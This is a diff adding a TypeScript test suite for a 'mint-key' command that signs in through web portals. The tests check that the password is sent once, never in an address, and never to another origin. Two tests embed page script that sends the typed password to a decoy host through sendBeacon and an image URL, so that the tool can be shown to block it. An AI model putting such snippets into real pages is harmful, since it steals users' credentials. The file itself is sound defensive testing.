@@ -1,0 +1,229 @@
+import type { StandIn } from '../../stand-in/stand-in.ts';
+import { startDecoy } from '../faults/fault-proxy.ts';
+import { credentials, expect, test } from '../fixtures.ts';
+import { startSso } from '../sso/start-sso.ts';
+import { drawForm, FORM, SIGN_IN, type StrangePortal, servePortal } from './serve-portal.ts';
+
+const POST = `fetch('${SIGN_IN}', { method: 'POST', body: JSON.stringify({ username, password }) })`;
+
+function signInThere(server: StandIn, { url }: StrangePortal) {
+  return { ...credentials(server), OCTOPUS_URL: url };
+}
+
+interface Way {
+  readonly page: string;
+  readonly files?: Readonly<Record<string, string>>;
+}
+
+const ways: Readonly<Record<string, Way>> = {
+  'by GET, from its script': {
+    page: drawForm(`fetch('${SIGN_IN}?' + new URLSearchParams({ username, password }));`),
+  },
+  'in an Authorization header': {
+    page: drawForm(
+      `fetch('${SIGN_IN}', { headers: { Authorization: 'Basic ' + btoa(username + ':' + password) } });`,
+    ),
+  },
+  'into a new tab': { page: drawForm(undefined, `method="post" action="${SIGN_IN}" target="_blank"`) },
+  'into a frame': {
+    page: `${drawForm(undefined, `method="post" action="${SIGN_IN}" target="inner"`)}<iframe name="inner"></iframe>`,
+  },
+  'as a page of its own': { page: drawForm(undefined, `method="post" action="${SIGN_IN}"`) },
+  'from a worker': {
+    page: drawForm(`new Worker('/worker.js').postMessage({ username, password });`),
+    files: { '/worker.js': `onmessage = ({ data: { username, password } }) => ${POST};` },
+  },
+  'from a service worker': {
+    page: drawForm(
+      `navigator.serviceWorker.register('/service.js').then(() => navigator.serviceWorker.ready)
+         .then(({ active }) => active.postMessage({ username, password }));`,
+    ),
+    files: { '/service.js': `onmessage = ({ data: { username, password } }) => ${POST};` },
+  },
+  'through a service worker that passes requests on': {
+    page: `<script>navigator.serviceWorker.register('/service.js')</script>
+      ${drawForm(`navigator.serviceWorker.ready.then(() => setTimeout(() => ${POST}, 100));`)}`,
+    files: {
+      '/service.js': `oninstall = () => skipWaiting(); onactivate = (event) => event.waitUntil(clients.claim());
+        onfetch = (event) => event.respondWith(fetch(event.request));`,
+    },
+  },
+  'from a shared worker': {
+    page: `<script>const { port } = new SharedWorker('/shared.js');</script>
+      ${drawForm('port.postMessage({ username, password });')}`,
+    files: {
+      '/shared.js': `onconnect = ({ ports: [port] }) => {
+        port.onmessage = ({ data: { username, password } }) => ${POST};
+      };`,
+    },
+  },
+  'and draws itself anew while the reply is still to come': {
+    page: drawForm(`setTimeout(() => ${POST}, 300); form.replaceWith(form.cloneNode(true));`),
+  },
+  twice: { page: drawForm(`${POST}; ${POST};`) },
+  'and twice more when the reply has come': {
+    page: drawForm(`${POST}.then(() => ${POST}).then(() => ${POST});`),
+  },
+  'by a button that does nothing the first time': {
+    page: drawForm(`if (!window.isPressed) return void (window.isPressed = true); ${POST};`),
+  },
+};
+
+for (const [how, { page, files }] of Object.entries(ways)) {
+  test(`a portal that sends the password ${how} gets it once, and the key is made`, async ({
+    startServer,
+    runCommand,
+  }) => {
+    const server = await startServer();
+    await using portal = await servePortal(server, page, files);
+    const { code, stdout, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });
+
+    expect(portal.submitted, stderr).toEqual([server.password]);
+    expect(code, stderr).toBe(0);
+    expect(stdout).toBe(`${server.liveKeys()[0]?.key}\n`);
+    expect(server.liveSessions()).toBe(0);
+  });
+}
+
+for (const how of [
+  'by GET, from its script',
+  'into a new tab',
+  'from a service worker',
+  'from a shared worker',
+]) {
+  test(`a wrong password that is sent ${how} is sent once: exit 4`, async ({ startServer, runCommand }) => {
+    const server = await startServer();
+    const { page, files } = ways[how] as Way;
+    await using portal = await servePortal(server, page, files);
+    const env = { ...signInThere(server, portal), OCTOPUS_PASSWORD: 'fake-wrong-password' };
+    const { code, stderr } = await runCommand('mint-key', { env });
+
+    expect(portal.submitted, stderr).toEqual(['fake-wrong-password']);
+    expect(code, stderr).toBe(4);
+    // What a shared worker is answered is seen by nobody else.
+    expect(stderr).toMatch(
+      how === 'from a shared worker' ? /is unknown; it is not submitted again/ : /answered 400/,
+    );
+  });
+}
+
+test('a button of which nothing is known but that something left is pressed once: exit 4, saying so', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  const page = drawForm(`fetch('/sealed', { method: 'POST', body: password.split('').reverse().join('') });`);
+  let sealed = 0;
+  await using portal = await servePortal(server, page, {
+    '/sealed': (_, outgoing) => {
+      sealed += 1;
+      outgoing.writeHead(204).end();
+    },
+  });
+  const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });
+
+  expect(code, stderr).toBe(4);
+  expect(stderr).toContain('is unknown; it is not submitted again');
+  expect(sealed).toBe(1);
+});
+
+test('a form that is sent by GET would put the password into an address: it never leaves, exit 4', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  await using portal = await servePortal(server, drawForm(undefined, `action="${SIGN_IN}"`));
+  const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });
+
+  expect(code, stderr).toBe(4);
+  expect(stderr).toContain('would send the password in the address');
+  expect(portal.submitted).toEqual([]);
+  expect(portal.heard.join('\n')).not.toContain('password=');
+});
+
+for (const how of ['defer', 'async'])
+  test(`a portal whose script is late (${how}) is pressed once it has come: one submission, and none in an address`, async ({
+    startServer,
+    runCommand,
+  }) => {
+    const server = await startServer();
+    const script = drawForm(`${POST};`).replace(/^.*<script>|<\/script>.*$/gs, '');
+    await using portal = await servePortal(
+      server,
+      `<!doctype html><script src="/late.js" ${how}></script>${FORM}`,
+      {
+        '/late.js': (_, outgoing) =>
+          void setTimeout(
+            () => outgoing.writeHead(200, { 'content-type': 'text/javascript' }).end(script),
+            1500,
+          ),
+      },
+    );
+    const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });
+
+    expect(code, stderr).toBe(0);
+    expect(portal.submitted).toEqual([server.password]);
+    expect(portal.heard.join('\n')).not.toContain('password=');
+  });
+
+test('a provider whose script is late is pressed once it has come: one submission, and none in an address', async ({
+  runCommand,
+}) => {
+  await using sso = await startSso({ scriptAfterMs: 1500 });
+  const { code, stderr } = await runCommand('mint-key', { env: sso.env });
+
+  expect(code, stderr).toBe(0);
+  expect(sso.provider.submissions).toHaveLength(1);
+  expect(sso.provider.addresses.join('\n')).not.toContain('password=');
+});
+
+test('a page that is about to send the password to another origin is stopped: exit 4, naming it', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  await using decoy = await startDecoy();
+  const page = drawForm(
+    `navigator.sendBeacon('${decoy.url}/took', password); new Image().src = '${decoy.url}/took?' + password; ${POST};`,
+  );
+  await using portal = await servePortal(server, page);
+  const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });
+
+  expect(code, stderr).toBe(4);
+  expect(stderr).toContain(decoy.url);
+  expect(decoy.heard).toEqual([]);
+  expect(portal.submitted).toEqual([]);
+});
+
+test('a provider that is about to send the password to another origin is stopped: exit 4, naming it', async ({
+  runCommand,
+}) => {
+  await using decoy = await startDecoy();
+  const script = `document.querySelector('form').addEventListener('submit', () => {
+    navigator.sendBeacon('${decoy.url}/took', document.querySelector('[type=password]').value);
+  });`;
+  await using sso = await startSso({ script });
+  const { code, stderr } = await runCommand('mint-key', { env: sso.env });
+
+  expect(code, stderr).toBe(4);
+  expect(stderr).toContain(decoy.url);
+  expect(decoy.heard).toEqual([]);
+});
+
+for (const [field, page] of Object.entries({
+  'the user name': drawForm(`${POST};`).replace('name="username"', 'name="username" maxlength="3"'),
+  'the password': drawForm(`${POST};`).replace('name="password"', 'name="password" maxlength="8"'),
+})) {
+  test(`a form that cuts off ${field} is not sent: exit 4, saying so`, async ({
+    startServer,
+    runCommand,
+  }) => {
+    const server = await startServer();
+    await using portal = await servePortal(server, page);
+    const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });
+
+    expect(code, stderr).toBe(4);
+    expect(stderr).toContain('does not keep what is typed into it');
+    expect(portal.submitted).toEqual([]);
+  });
+}
